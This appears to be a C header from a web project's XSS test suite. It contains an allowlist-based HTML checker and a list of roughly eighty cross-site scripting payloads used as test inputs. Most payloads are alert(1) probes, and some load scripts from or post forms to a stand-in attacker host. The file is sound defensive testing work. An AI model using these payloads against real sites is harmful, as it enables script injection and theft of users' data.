// SPDX-License-Identifier: EUPL-1.2
// The judge of the XSS tests: walks a page as a browser's tokenizer would, and says what in it could act. It shares no code with the writer.
#pragma once
#include <ctype.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>

static inline bool markup_listed(const char *list, const char *name, size_t length) {
  for (const char *at = list; *at;) {
    size_t word = strcspn(at, " ");
    if (word == length && strncasecmp(at, name, length) == 0) return true;
    at += word + (at[word] == ' ');
  }
  return false;
}

// What a page of ours may consist of: anything else came from somewhere else.
static const char markup_tags[] =
    "html head meta title link body a header div svg path circle polygon rect span nav main footer ul ol li p h1 h2 h3 h4 form input button label "
    "textarea select option fieldset legend section progress dl dt dd table thead tbody tr th td strong em code pre blockquote br hr img figure figcaption polyline text details summary time";
static const char markup_attributes[] =
    "lang charset name content rel href class width height viewBox aria-hidden aria-label aria-labelledby aria-current aria-describedby aria-invalid d cx cy r id "
    "tabindex method action novalidate type value for formaction max min alt src loading checked selected rows inputmode autocomplete autocapitalize spellcheck readonly role points x y scope "
    "data-weergave data-concept data-unsaved data-now data-back data-left data-over data-most datetime";

// The one script that a page has: our own file, named by its content. Returns behind it, or NULL where something else stands there.
static inline const char *markup_own_script(const char *at) {
  static const char begin[] = "script defer src=\"/assets/app.", end[] = ".js\"></script>";
  if (strncmp(at, begin, sizeof begin - 1) != 0) return NULL;
  at += sizeof begin - 1;
  if (strspn(at, "0123456789abcdef") != 8 || strncmp(at + 8, end, sizeof end - 1) != 0) return NULL;
  return at + 8 + sizeof end - 1;
}

// One attribute from `at` on; returns behind it. `*problem` is set where it may not be there.
static inline const char *markup_attribute(const char *at, char *problem, size_t size) {
  size_t name = strcspn(at, "=> \t\n/");
  if (!markup_listed(markup_attributes, at, name)) snprintf(problem, size, "attribute %.*s", (int)(name < 60 ? name : 60), at);
  bool link = markup_listed("href src action formaction", at, name);
  at += name;
  if (*at != '=') return at;
  at++;
  if (*at != '"') {
    snprintf(problem, size, "an attribute without quotes: %.40s", at);
    return at + strcspn(at, " >");
  }
  at++;
  size_t length = strcspn(at, "\"");
  if (memchr(at, '<', length) || memchr(at, '>', length)) snprintf(problem, size, "an angle in an attribute: %.60s", at);
  // The icon is an image of our own, and acts as little as one.
  static const char *const schemes[] = {"http://", "https://", "mailto:", "/", "#", 
                                          "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 32 32'%3E%3Crect width='32' height='32'"};
  bool fine = !link;
  for (size_t i = 0; i < sizeof schemes / sizeof *schemes; i++) fine |= strncasecmp(at, schemes[i], strlen(schemes[i])) == 0;
  if (!fine) snprintf(problem, size, "a link to %.60s", at);
  return at + length + (at[length] == '"');
}

// True where nothing in the page could act; otherwise `problem` says what.
static inline bool markup_harmless(const char *page, char *problem, size_t size) {
  problem[0] = '\0';
  for (const char *at = page; *at && !problem[0];) {
    if (*at != '<') {
      if (*at == '&') { // an ampersand of a text is always escaped
        size_t length = strcspn(at, "; <");
        if (at[length] != ';' || length > 7) snprintf(problem, size, "a bare ampersand: %.40s", at);
      }
      at++;
      continue;
    }
    at++;
    if (strncasecmp(at, "!doctype html>", 14) == 0) {
      at += 14;
      continue;
    }
    const char *behind = markup_own_script(at);
    if (behind) {
      at = behind;
      continue;
    }
    at += *at == '/';
    size_t name = strcspn(at, " >/\n\t");
    if (!markup_listed(markup_tags, at, name)) snprintf(problem, size, "tag <%.*s", (int)(name < 60 ? name : 60), at);
    at += name;
    while (*at && *at != '>' && !problem[0]) {
      if (isspace((unsigned char)*at) || *at == '/') at++;
      else at = markup_attribute(at, problem, size);
    }
    at += *at == '>';
  }
  return !problem[0];
}

// Texts that act where they are not escaped, each in its own kind of place.
static const char *const markup_attacks[] = {
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</legend></fieldset><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onclick='alert(1)",
    "javascript:alert(1)",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](data:text/html,<script>alert(1)</script>)",
    "[klik](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<https://voorbeeld.nl/\" onclick=\"alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://voorbeeld.nl/x.png\" onerror=\"alert(1))",
    "[x](https://voorbeeld.nl/\"onclick=alert(1))",
    "[x](https://voorbeeld.nl/'onclick=alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "**<b onclick=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| <script> | b |\n|---|---|\n| <img onerror=alert(1)> | x |",
    "<!--<script>-->alert(1)",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><script>",
    "<iframe src=javascript:alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content=0;url=//kwaad.example>",
    "<link rel=stylesheet href=//kwaad.example>",
    "<style>*{background:url(//kwaad.example)}</style>",
    "<form action=//kwaad.example><input>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&quot;&gt;&lt;script&gt;",
    "&",
    "&&&",
    "&amp",
    "<",
    ">",
    "<<script>script>alert(1)",
    "<scr<script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<SCRIPT SRC=//kwaad.example/x.js></SCRIPT>",
    "\\<script\\>alert(1)",
    "http://voorbeeld.nl/\"><script>alert(1)</script>",
    "www.voorbeeld.nl\"onclick=alert(1)",
    "x@voorbeeld.nl\"onclick=alert(1)",
    "mailto:x\"onclick=alert(1)",
    "`'\"><",
    "\xE2\x80\xAE<script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "a\" style=\"background:red",
    "a\" formaction=\"javascript:alert(1)",
    "a\" formaction=\"//kwaad.example\" x=\"",
};
enum { MARKUP_ATTACKS = sizeof markup_attacks / sizeof *markup_attacks };
